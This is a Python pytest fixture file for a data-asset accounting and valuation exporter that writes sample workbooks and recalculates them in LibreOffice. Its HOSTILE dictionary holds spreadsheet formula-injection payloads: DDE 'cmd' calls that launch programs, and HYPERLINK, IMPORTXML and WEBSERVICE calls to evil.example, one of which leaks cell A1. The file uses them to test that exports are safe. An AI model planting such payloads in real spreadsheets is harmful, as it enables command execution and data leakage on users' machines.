"""Shared fixtures: the sample cases exported once per session, then recalculated by LibreOffice in one run.

Workbooks written (all with ``record=True``, so each formula carries the engine's figure):

- ``full-<k>``: the k-th accounting example at 2025-12-31 with the k-th valuation and pledge example
  (what ``dataval export BOOKS --as-of --valuation --pledge`` writes);
- ``book-inventory-h1``: the inventory books for the period 2025-04-01 to 2025-06-30 (``book -o``);
- ``book-self-2024``: the self-developed dataset at 2024-12-31, the year of its impairment (``book -o``);
- ``book-hand`` / ``book-hand-h2`` / ``book-hand-empty``: a one-asset case whose figures the tests
  compute by hand, for the year 2025, for its second half, and at 2024-12-31 before anything is booked;
- ``book-later-life`` / ``book-later-life-2024``: development expenditure impaired before it is ready,
  and a dataset held for sale (CAS 42) then sold — the figures of tests/accounting/test_development_impairment.py
  and test_held_for_sale.py;
- ``value-parking``: the parking valuation workpapers alone (``value -o``);
- ``memo-retail``: the credit memo of the bullet-loan pledge (``pledge -o``);
- ``cross-ref``: books whose impairment test rests on the parking valuation, that valuation and a pledge of
  the same asset, tied to each other in 校验 (交叉引用);
- ``hostile``: books, valuation and pledge whose names and descriptions are formula-injection attempts;
- ``template-<case>`` and ``template-edited``: the engagement template of each example, and one edited
  with openpyxl (as a user would in a spreadsheet), for the round trip through LibreOffice.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from cli.commands.export import load_books, load_pledge, load_valuation, write_xlsx
from cli.io import case_from_dict
from ledger_export.case_template import METHODS, PARAMETERS, write_case_workbook
from ledger_export.credit_memo import write_credit_memo
from tests.conftest import require
from tests.ledger_export.libreoffice import recalculate, soffice

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / "data" / "examples"
BOOKS = sorted((EXAMPLES / "books").glob("*.json"))
VALUATIONS = sorted(EXAMPLES.glob("*.json"))
PLEDGES = sorted((EXAMPLES / "pledges").glob("*.json"))
AS_OF = date(2025, 12, 31)
HAND_BOOKS = Path(__file__).resolve().parent / "data" / "hand_books.json"
LATER_LIFE_BOOKS = Path(__file__).resolve().parent / "data" / "later_life_books.json"

HOSTILE = {
    "company": '=HYPERLINK("http://evil.example/?"&A1,"点击 click")',
    "resource_name": "+cmd|' /C calc'!A0",
    "resource_description": "@SUM(1+1)\x01\x07 " + "长" * 40_000,
    "asset_name": "=1+1",
    "asset_description": "=cmd|'/C notepad'!A1 \x0b vertical tab",
    "cost_item": '=IMPORTXML("http://evil.example","//a")',
    "evidence": "@evil\r\nsecond line",
    "reason": "-1+1 (reason)",
    "collateral_name": '=WEBSERVICE("http://evil.example")',
    "lender": "\t=1+2",
}


@dataclass
class Exported:
    name: str
    path: Path
    report: Any = None
    source: Any = None
    recalculated: Path | None = None


def _hostile_inputs(tmp: Path) -> tuple[Path, Path, Path]:
    books = json.loads((EXAMPLES / "books" / "purchased_authorized_dataset.json").read_text(encoding="utf-8"))
    books["company"] = HOSTILE["company"]
    books["resources"][0]["name"] = HOSTILE["resource_name"]
    books["resources"][0]["description"] = HOSTILE["resource_description"]
    books["policy"]["materiality_threshold"] = "1.00"
    val = json.loads((EXAMPLES / "parking_city_investment.json").read_text(encoding="utf-8"))
    a = val["assets"][0]
    a["asset"]["name"] = HOSTILE["asset_name"]
    a["asset"]["description"] = HOSTILE["asset_description"]
    a["cost"]["lines"][0]["item"] = HOSTILE["cost_item"]
    a["cost"]["lines"][0]["evidence"] = HOSTILE["evidence"]
    a["methods"][0]["reason"] = HOSTILE["reason"]
    pl = json.loads(PLEDGES[0].read_text(encoding="utf-8"))
    pl["collateral"]["name"] = HOSTILE["collateral_name"]
    pl["term_sheet"]["lender"] = HOSTILE["lender"]
    paths = (tmp / "hostile_books.json", tmp / "hostile_case.json", tmp / "hostile_pledge.json")
    for p, raw in zip(paths, (books, val, pl), strict=True):
        p.write_text(json.dumps(raw, ensure_ascii=False), encoding="utf-8")
    return paths


def cross_reference_inputs(tmp: Path) -> tuple[Path, Path, Path]:
    """Books whose year-end impairment test rests on the parking valuation (its result file, fair value less
    CNY 50,000.00 costs of disposal), that valuation, and a pledge of the same asset at its concluded value:
    the three parts of one workbook the 交叉引用 ties join."""
    from cli.main import main

    park = EXAMPLES / "parking_city_investment.json"
    result = tmp / "park_result.json"
    assert main(["value", str(park), "-o", str(result)]) == 0
    value = json.loads(result.read_text(encoding="utf-8"))["valuations"][0]["conclusion"]["value"]
    books = {
        "case_id": "XREF-01", "company": "某市城市建设投资集团有限公司 (illustrative)",
        "resources": [{"asset_id": "PARK-001", "name": "城市公共停车泊位实时数据", "purpose": "internal_use",
                       "formation": "purchased", "controlled": True, "separable": True, "benefits_probable": True,
                       "cost_reliably_measurable": True, "useful_life": {"estimated_months": 60}}],
        "events": [
            {"kind": "purchase", "event_id": "P1", "asset_id": "PARK-001", "date": "2025-01-10",
             "cost_lines": [{"category": "purchase_price", "amount": "2400000.00"}]},
            {"kind": "impairment_test", "event_id": "IMP-2025", "asset_id": "PARK-001", "date": "2025-12-31",
             "from_valuation": {"result_file": result.name, "basis": "fair_value_less_costs_of_disposal",
                                "costs_of_disposal": "50000.00"}},
        ],
    }
    pl = json.loads(PLEDGES[0].read_text(encoding="utf-8"))
    pl["collateral"].update(asset_id="PARK-001", name="城市公共停车泊位实时数据", concluded_value=value,
                            values_by_method={"cost": value, "income": value})
    paths = (tmp / "xref_books.json", park, tmp / "xref_pledge.json")
    paths[0].write_text(json.dumps(books, ensure_ascii=False), encoding="utf-8")
    paths[2].write_text(json.dumps(pl, ensure_ascii=False), encoding="utf-8")
    return paths


def edit_template(path: Path) -> None:
    """What a user does in a spreadsheet: new weights 0.4 / 0.6 / 0 and an opportunity rate of 4 %."""
    wb = load_workbook(path)
    for row in wb[METHODS].iter_rows(min_row=3):
        if row[1].value == "cost":
            row[2].value = 0.4
        if row[1].value == "income":
            row[2].value = 0.6
    for row in wb[PARAMETERS].iter_rows(min_row=3):
        if row[1].value == "cost.opportunity.rate":
            row[2].value = 0.04
    wb.save(path)


def edited_case_raw() -> dict[str, Any]:
    """The same edit made to the case JSON."""
    raw = json.loads((EXAMPLES / "parking_city_investment.json").read_text(encoding="utf-8"))
    for m in raw["assets"][0]["methods"]:
        m["weight"] = {"cost": 0.4, "income": 0.6}.get(m["method"], m["weight"])
    raw["assets"][0]["cost"]["opportunity"]["rate"] = 0.04
    return raw


@pytest.fixture(scope="session")
def workbooks(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Exported]:
    """Every workbook the tests look at, written once (no spreadsheet program needed)."""
    tmp = tmp_path_factory.mktemp("exports")
    out: dict[str, Exported] = {}

    def add(name: str, **parts: Any) -> None:
        path = tmp / f"{name}.xlsx"
        out[name] = Exported(name, path, write_xlsx(path, record=True, preparer="测试 tester", **parts), parts)

    for k in range(3):
        bcase, bres = load_books(BOOKS[k], AS_OF)
        vcase, vres, index = load_valuation(VALUATIONS[k])
        pcase, pres = load_pledge(PLEDGES[k])
        add(f"full-{k}", books=(BOOKS[k], bcase, bres), valuation=(VALUATIONS[k], vcase, vres, index),
            pledge=(PLEDGES[k], pcase, pres))
    inv = EXAMPLES / "books" / "data_inventory.json"
    add("book-inventory-h1", books=(inv, *load_books(inv, date(2025, 6, 30), date(2025, 4, 1))))
    self_dev = EXAMPLES / "books" / "self_developed_dataset.json"
    add("book-self-2024", books=(self_dev, *load_books(self_dev, date(2024, 12, 31))))
    hand = HAND_BOOKS
    add("book-hand", books=(hand, *load_books(hand, AS_OF)))
    add("book-hand-h2", books=(hand, *load_books(hand, AS_OF, date(2025, 7, 1))))
    add("book-hand-empty", books=(hand, *load_books(hand, date(2024, 12, 31))))  # nothing booked yet
    later = LATER_LIFE_BOOKS
    add("book-later-life", books=(later, *load_books(later, AS_OF)))
    add("book-later-life-2024", books=(later, *load_books(later, date(2024, 12, 31))))
    park = EXAMPLES / "parking_city_investment.json"
    add("value-parking", valuation=(park, *load_valuation(park)))
    retail = EXAMPLES / "pledges" / "retail_6m_bullet_over_limit.json"
    pcase, pres = load_pledge(retail)
    memo = tmp / "memo-retail.xlsx"
    out["memo-retail"] = Exported("memo-retail", memo, write_credit_memo(pcase, pres, memo, record=True),
                                  {"pledge": (retail, pcase, pres)})
    xb, xv, xp = cross_reference_inputs(tmp)
    add("cross-ref", books=(xb, *load_books(xb, AS_OF)), valuation=(xv, *load_valuation(xv)),
        pledge=(xp, *load_pledge(xp)))
    hb, hv, hp = _hostile_inputs(tmp)
    add("hostile", books=(hb, *load_books(hb, AS_OF)), valuation=(hv, *load_valuation(hv)),
        pledge=(hp, *load_pledge(hp)))
    for path in VALUATIONS:
        case, errors = case_from_dict(json.loads(path.read_text(encoding="utf-8")))
        assert not errors
        xlsx = tmp / f"template-{path.stem}.xlsx"
        write_case_workbook(case, xlsx)
        out[f"template-{path.stem}"] = Exported(f"template-{path.stem}", xlsx, source=case)
    case, _ = case_from_dict(json.loads(park.read_text(encoding="utf-8")))
    edited = tmp / "template-edited.xlsx"
    write_case_workbook(case, edited)
    edit_template(edited)
    out["template-edited"] = Exported("template-edited", edited, source=case_from_dict(edited_case_raw())[0])
    return out


@pytest.fixture(scope="session")
def recalculated(workbooks: dict[str, Exported], tmp_path_factory: pytest.TempPathFactory) -> dict[str, Exported]:
    """All workbooks opened, recalculated and saved by LibreOffice headless, in one run."""
    require(soffice() is not None, "LibreOffice")
    outdir = tmp_path_factory.mktemp("recalculated")
    files = [w.path for w in workbooks.values()]
    for w, converted in zip(workbooks.values(), recalculate(files, outdir), strict=True):
        w.recalculated = converted
    return workbooks

